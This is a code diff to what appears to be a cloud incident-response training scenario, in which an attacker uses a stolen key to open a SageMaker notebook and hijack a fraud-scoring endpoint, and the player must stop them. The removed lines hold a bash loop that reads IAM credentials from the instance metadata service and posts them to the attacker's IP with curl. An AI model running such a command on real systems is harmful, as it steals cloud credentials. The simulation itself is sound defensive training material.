@@ -1,5 +1,8 @@
+import { agents } from '../actors/agents.ts';
 import type { AttackStep } from '../actors/attack.ts';
-import { siphon } from '../actors/siphon.ts';
+import { beacon } from '../actors/beacon.ts';
+import { routine } from '../actors/benign.ts';
+import { siphon } from '../actors/serving.ts';
 import { accountId } from '../estate-definition.ts';
 import type { Scenario } from './scenario.ts';
 
@@ -7,15 +10,7 @@ const attackerIp = '198.51.100.7';
 const minute = 60_000;
 const both = ['notebook', 'stolen-key'] as const;
 
-const script = Buffer.from(
-  [
-    '#!/bin/bash',
-    'nohup bash -c "while true; do',
-    '  curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ \\',
-    `    | curl -s --data-binary @- http://${attackerIp}:8080/s; sleep 60; done" &`,
-    '',
-  ].join('\n'),
-).toString('base64');
+const script = beacon(attackerIp);
 
 const mint: AttackStep = {
   phase: 'entry',
@@ -23,7 +18,7 @@ const mint: AttackStep = {
   call: 'sagemaker:CreatePresignedNotebookInstanceUrl',
   input: { NotebookInstanceName: 'fraud-lab', SessionExpirationDurationInSeconds: 43_200 },
   by: ['stolen-key'],
-  opens: true,
+  opens: 'notebook',
 };
 
 /** Takes an object with what the notebook's role may read. */
@@ -46,21 +41,24 @@ export default {
     'She works on notebook fraud-lab (role ds-exec). fraud-scorer decides on live payments: keep it up if you can.',
     'You are OnCall with administrator rights. Find out what they did, stop them, and leave a timeline.',
   ],
+  hints: [
+    `Filter for what ${attackerIp} did: /ip=${attackerIp}. Whose key is it, and what did it open?`,
+    'A presigned URL leads to a notebook, and what runs there has the rights of its role. Follow the credentials with f.',
+    "Two identities act: alice's key, and ds-exec through fraud-lab. Whoever cuts only one leaves the other.",
+    'Close the presigned entry of fraud-lab (which stops it), quarantine ds-exec since its credentials are outside, deactivate the key, and roll fraud-scorer back to fraud-scorer-v3 if it was changed. Only then look at the rest.',
+  ],
+  playbook: 'notebook-hijack',
   attack: {
     sourceIp: attackerIp,
     disguises: {
       'stolen-key': {
         stolenFrom: 'alice',
-        userAgent:
-          'aws-cli/2.31.4 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0-kali1-amd64 md/arch#x86_64 lang/python#3.13.7 md/pyimpl#CPython cfg/retry-mode#standard',
+        userAgent: agents.kaliCli,
       },
-      notebook: {
-        userAgent:
-          'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux#6.8.0-kali1-amd64 lang/python#3.13.7 md/pyimpl#CPython',
-      },
+      notebook: { userAgent: agents.kaliBoto },
     },
-    implantMark: attackerIp,
-    reentry: mint,
+    implant: { mark: attackerIp, as: 'notebook' },
+    reentry: [mint],
     steps: [
       { phase: 'recon', afterMs: 1000, call: 'sts:GetCallerIdentity', input: {}, by: ['stolen-key'] },
       {
@@ -206,6 +204,7 @@ export default {
         endpoint: 'fraud-scorer',
         config: 'fraud-scorer-v4',
         servesMs: 8 * minute,
+        by: both,
         endings: {
           reached: 'fraud-scorer has been copying every payment it scores to a bucket outside the account.',
           stopped: 'Every way back was refused; the attacker gave up and fraud-scorer copies nothing to the outside.',
@@ -213,50 +212,6 @@ export default {
       }),
     deadlineMs: 26 * minute,
   },
-  routines: [
-    {
-      who: 'alice',
-      sourceIp: '203.0.113.10',
-      userAgent: 'Boto3/1.41.5 md/Botocore#1.41.5 ua/2.1 os/macos#25.1.0 lang/python#3.12.11 md/pyimpl#CPython',
-      everyMs: 70_000,
-      calls: [
-        { operation: 'sagemaker:DescribeNotebookInstance', input: { NotebookInstanceName: 'fraud-lab' } },
-        { operation: 'sagemaker:ListNotebookInstances', input: {} },
-        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'fraud-scorer' } },
-        {
-          operation: 'sagemaker:CreatePresignedNotebookInstanceUrl',
-          input: { NotebookInstanceName: 'fraud-lab' },
-          onlyInHistory: true,
-        },
-      ],
-    },
-    {
-      who: 'bob',
-      sourceIp: '203.0.113.24',
-      userAgent:
-        'aws-cli/2.30.1 md/awscrt#0.27.6 ua/2.1 os/macos#25.1.0 md/arch#arm64 lang/python#3.13.6 md/pyimpl#CPython',
-      everyMs: 50_000,
-      calls: [
-        { operation: 'sagemaker:ListEndpoints', input: {} },
-        { operation: 'sagemaker:ListModels', input: {} },
-        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'recsys-ranker' } },
-        { operation: 'sagemaker:DescribeInferenceComponent', input: { InferenceComponentName: 'llm-chat' } },
-      ],
-    },
-    {
-      who: 'ci',
-      sourceIp: '192.0.2.50',
-      userAgent:
-        'aws-sdk-js/3.1100.0 ua/2.1 os/linux#6.8.0-1030-azure lang/js md/nodejs#24.11.0 api/sagemaker#3.1100.0',
-      everyMs: 30_000,
-      calls: [
-        { operation: 'sts:GetCallerIdentity', input: {} },
-        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'fraud-scorer' } },
-        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'churn-canary' } },
-        { operation: 'sagemaker:DescribeEndpointConfig', input: { EndpointConfigName: 'recsys-ranker-v12' } },
-        { operation: 'application-autoscaling:DescribeScalableTargets', input: { ServiceNamespace: 'sagemaker' } },
-      ],
-    },
-  ],
+  routines: [routine('alice'), routine('bob'), routine('ci')],
   historyCalls: 60,
 } satisfies Scenario;
